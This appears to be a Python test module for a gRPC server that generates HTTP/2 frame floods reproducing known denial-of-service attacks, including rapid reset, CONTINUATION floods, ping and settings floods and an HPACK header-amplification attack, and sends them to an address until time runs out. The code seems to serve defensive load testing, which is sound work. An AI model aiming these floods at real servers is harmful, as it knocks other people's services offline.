"""Streams of HTTP/2 frames that cost their sender little, and a server much if it heeds them without bounds.

Most are known by a CVE of 2019 (9511 to 9518), the rapid reset of 2023 (44487), or the CONTINUATION flood of 2024.
"""

import itertools
import socket
import struct
import time
from collections.abc import Iterator

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
# A kind that nobody knows.
UNKNOWN = 0xEE
END_STREAM, END_HEADERS, PADDED = 0x1, 0x4, 0x8
MAX_FRAME = 16384
CANCEL = 8
# Frames that are sent in one piece.
BATCH = 200


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers_of(method: str) -> bytes:
    listed = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", method),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]
    return bytes(hpack.Encoder().encode([(hpack.NeverIndexedHeaderTuple(*one)) for one in listed]))


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def settings(method: str) -> Iterator[bytes]:
    """Each must be acknowledged."""
    while True:
        yield frame(SETTINGS, payload=struct.pack(">HI", 4, 65535)) * BATCH


def table_sizes(method: str) -> Iterator[bytes]:
    """Each makes the server throw its table of headers away and build it anew."""
    while True:
        yield frame(SETTINGS, payload=struct.pack(">HIHI", 1, 0, 1, 65536)) * BATCH


def pings(method: str) -> Iterator[bytes]:
    """Each must be answered."""
    while True:
        yield frame(PING, payload=bytes(8)) * BATCH


def rapid_resets(method: str) -> Iterator[bytes]:
    """Calls that end before they are refused, so that they count towards no limit."""
    opened, reset = headers_of(method), struct.pack(">I", CANCEL)
    streams = _streams()
    while True:
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, opened) + frame(RST_STREAM, 0, stream, reset)
            for stream in itertools.islice(streams, BATCH)
        )


def whole_calls_reset(method: str) -> Iterator[bytes]:
    """The same with a message, so that a handler may have begun."""
    opened, reset = headers_of(method), struct.pack(">I", CANCEL)
    streams = _streams()
    while True:
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, opened)
            + frame(DATA, END_STREAM, stream, bytes(5))
            + frame(RST_STREAM, 0, stream, reset)
            for stream in itertools.islice(streams, BATCH)
        )


def continuations(method: str) -> Iterator[bytes]:
    """Headers that never end."""
    yield frame(HEADERS, 0, 1, headers_of(method))
    names = itertools.count()
    encoder = hpack.Encoder()
    while True:
        listed = [hpack.NeverIndexedHeaderTuple(f"x-{next(names)}", "v" * 1000) for _ in range(16)]
        yield frame(CONTINUATION, 0, 1, bytes(encoder.encode(listed)))


def empty_continuations(method: str) -> Iterator[bytes]:
    """The same without a byte, so that no size is exceeded."""
    yield frame(HEADERS, 0, 1, headers_of(method))
    while True:
        yield frame(CONTINUATION, 0, 1) * BATCH


def indexed_headers(method: str) -> Iterator[bytes]:
    """One long header in the table, and then calls that name it twenty times with a byte each.

    gRPC makes every one of these headers before it refuses the call, and says in the status which they were. With
    thousands in each call its memory grows without a bound that anybody could set; docs/security.md says so.
    """
    long = bytes(hpack.Encoder().encode([("x-long", "v" * 3900)]))
    streams = _streams()
    yield frame(HEADERS, END_HEADERS | END_STREAM, next(streams), headers_of(method) + long)
    while True:
        # 0xBE is the latest entry of the table.
        yield frame(HEADERS, END_HEADERS | END_STREAM, next(streams), headers_of(method) + b"\xbe" * 20)


def no_window(method: str) -> Iterator[bytes]:
    """Calls whose answers nobody lets through."""
    yield frame(SETTINGS, payload=struct.pack(">HI", 4, 0))
    opened, streams = headers_of(method), _streams()
    while True:
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, opened) + frame(DATA, END_STREAM, stream, bytes(5))
            for stream in itertools.islice(streams, BATCH)
        )


def empty_data(method: str) -> Iterator[bytes]:
    """Pieces of a message that have no bytes, so that no window limits them."""
    yield frame(HEADERS, END_HEADERS, 1, headers_of(method))
    while True:
        yield frame(DATA, 0, 1) * BATCH


def padding(method: str) -> Iterator[bytes]:
    """Pieces of a message that are padding alone."""
    yield frame(HEADERS, END_HEADERS, 1, headers_of(method))
    while True:
        yield frame(DATA, PADDED, 1, bytes([255]) + bytes(255))


def window_updates(method: str) -> Iterator[bytes]:
    """Leave to send a byte more, again and again."""
    yield frame(HEADERS, END_HEADERS, 1, headers_of(method))
    while True:
        yield frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * BATCH


def priorities(method: str) -> Iterator[bytes]:
    """Streams that do not exist are put before each other."""
    streams = _streams()
    while True:
        yield b"".join(
            frame(PRIORITY, 0, stream % (1 << 30), struct.pack(">IB", 0, 255))
            for stream in itertools.islice(streams, BATCH)
        )


def unknown_frames(method: str) -> Iterator[bytes]:
    """Frames of a kind that a receiver must skip."""
    while True:
        yield frame(UNKNOWN, 0xFF, 0, bytes(MAX_FRAME)) * 8


# Frames that make no call, or one.
FRAMES = (
    settings, table_sizes, pings, continuations, empty_continuations, empty_data, padding, window_updates, priorities,
    unknown_frames,
)  # fmt: skip
# Calls, each of which costs the server as much as an honest one that is refused.
CALLS = (rapid_resets, whole_calls_reset, indexed_headers, no_window)


def send(address: tuple[str, int], frames: Iterator[bytes], seconds: float, reads: bool) -> int:
    """Send frames until the time is over, again on a new connection where the server closes one.

    Args:
        address: of the server.
        frames: without an end.
        seconds: for how long.
        reads: whether what the server sends is read; otherwise it has nowhere to go.

    Returns:
        How many bytes were sent.
    """
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        try:
            with socket.create_connection(address, 5) as connection:
                connection.settimeout(0.5)
                connection.sendall(PREFACE + frame(SETTINGS))
                while time.monotonic() < end:
                    piece = next(frames)
                    connection.sendall(piece)
                    sent += len(piece)
                    if reads:
                        _discard(connection)
        except OSError:
            # The server has closed the connection, or takes nothing more.
            continue
    return sent


def _discard(connection: socket.socket) -> None:
    connection.setblocking(False)
    try:
        while connection.recv(1 << 16):
            pass
    except BlockingIOError:
        pass
    finally:
        connection.settimeout(0.5)
